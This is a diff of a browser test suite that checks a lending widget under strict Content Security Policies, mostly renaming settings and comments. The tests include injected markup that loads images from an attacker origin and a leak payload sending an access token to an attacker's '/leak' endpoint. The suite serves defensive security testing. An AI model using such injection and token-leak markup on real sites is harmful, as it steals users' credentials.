@@ -1,4 +1,4 @@
-// <lending-widget> on a page under the strictest policy, and what markup alone can make it do.
+// <lending-widget> on a page with the strictest policy, and attacks with markup alone.
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { ensureBuilt } from '../support/dist.mjs';
@@ -23,15 +23,15 @@ const nonceOnly = (vendor) =>
   ].join('; ');
 const [STRICT, NO_TRUSTED_TYPES, NONE] = ['the strict policy', 'the policy without Trusted Types', 'no policy'];
 const POLICIES = {
-  // What the doctor tells a partner to send; it is asked before the tests.
+  // The policy that the doctor prints. It runs before the tests.
   [STRICT]: undefined,
   [NO_TRUSTED_TYPES]: nonceOnly,
   [NONE]: () => undefined,
 };
 
-/** What `lending-elements doctor --csp` prints for a widget of the vendor's. */
+/** Returns the policy that `lending-elements doctor --csp` prints for a vendor's widget. */
 async function printedPolicy(vendor) {
-  const widget = { script_url: `${vendor}/widget.js`, hand_off: handOff() };
+  const widget = { scriptUrl: `${vendor}/widget.js`, handOff: handOff() };
   const { status, stdout } = await cli(['doctor', '--csp'], {
     LENDING_ENVIRONMENT: 'sandbox',
     LENDING_WIDGET: JSON.stringify(widget),
@@ -51,7 +51,7 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
     [partner, vendor, attacker] = await Promise.all([startPartner(), startVendor(), startVendor()]);
     const printed = await printedPolicy(vendor.origin);
     POLICIES[STRICT] = () => printed;
-    // It asks its own backend for the offers, as a widget does.
+    // It fetches the offers from its own backend, as a widget does.
     const source = `globalThis.VendorFunding = { async init({ token, container }) {
       const answer = await fetch('${vendor.origin}/offers', { headers: { authorization: token } });
       const offers = document.createElement('p');
@@ -71,10 +71,10 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
     for (const server of [partner, vendor, attacker]) server?.close();
   });
 
-  const settings = () => ({ script_url: `${vendor.origin}/widget.js`, hand_off: handOff() });
+  const settings = () => ({ scriptUrl: `${vendor.origin}/widget.js`, handOff: handOff() });
   const embed = () => `<div><script src="${vendor.origin}/widget.js"></script><script>${EMBED_CALL}</script></div>`;
 
-  /** What became of the widgets on a page and in its frames: what they show, what they told, what the policies and the console say. */
+  /** Returns the texts, events, policy violations and console messages of the widgets on a page and in its frames. */
   async function open(body, widgets, under = STRICT) {
     const page = await browser.newPage();
     const problems = [];
@@ -117,7 +117,7 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
   it('shows the widget from a script and a hand-off, from embed code and from the backend’s settings, with 0 violations', async () => {
     const widgets = [
       { token: 'token-1', widget: settings() },
-      { token: 'token-2', widget: { embed_code: embed() } },
+      { token: 'token-2', widget: { embedCode: embed() } },
       { token: 'token-3', widget: settings(), isFromBackend: true },
     ];
     const { told, texts, violations, problems } = await open(ELEMENT.repeat(3), widgets);
@@ -129,16 +129,16 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
     );
   });
 
-  /** The same settings, for a frame; what the widget needs in it, the backend has named. */
+  /** The same settings for a frame. The backend names the origins that the widget needs in it. */
   const framed = (widget) => {
     const whole = { ...widget, origins: [vendor.origin] };
-    return { ...whole, isolation: 'frame', frame_url: partner.frame(whole) };
+    return { ...whole, isolation: 'frame', frameUrl: partner.frame(whole) };
   };
 
   it('shows the widget in frames in the same three ways, with 0 violations in the page and in the frames', async () => {
     const widgets = [
       { token: 'token-1', widget: framed(settings()) },
-      { token: 'token-2', widget: framed({ embed_code: embed() }) },
+      { token: 'token-2', widget: framed({ embedCode: embed() }) },
       { token: 'token-3', widget: framed(settings()), isFromBackend: true },
     ];
     const { told, texts, violations, problems, inFrames } = await open(ELEMENT.repeat(3), widgets);
@@ -151,8 +151,8 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
   });
 
   it('sees a violation in a frame where there is one, and the page sees none', async () => {
-    const embed_code = `${embed()}<script>new Image().src = 'http:' + '//another.example/x.png';</script>`;
-    const { violations, inFrames } = await open(ELEMENT, [{ widget: framed({ embed_code }) }]);
+    const embedCode = `${embed()}<script>new Image().src = 'http:' + '//another.example/x.png';</script>`;
+    const { violations, inFrames } = await open(ELEMENT, [{ widget: framed({ embedCode }) }]);
     assert.deepEqual([violations, inFrames[0].violations], [[], ['img-src']]);
   });
 
@@ -166,8 +166,8 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
   }
 
   it('sees a violation where there is one', async () => {
-    const embed_code = `${embed()}<img src="${attacker.origin}/x.png">`;
-    const { violations } = await open(ELEMENT, [{ widget: { embed_code } }]);
+    const embedCode = `${embed()}<img src="${attacker.origin}/x.png">`;
+    const { violations } = await open(ELEMENT, [{ widget: { embedCode } }]);
     assert.deepEqual(
       violations.map(({ effectiveDirective }) => effectiveDirective),
       ['img-src'],
@@ -211,7 +211,7 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
     for (const under of [STRICT, NONE]) {
       const before = attacker.asked('/leak?token');
       const markup = inside(leak(`${attacker.origin}/leak?{access_token}`));
-      // The page may be led away meanwhile.
+      // The attack can navigate the page.
       await open(markup, [{ widget: settings(), isFromBackend: true }], under).catch(() => undefined);
       sent.push([under, attacker.asked('/leak?token') - before]);
     }
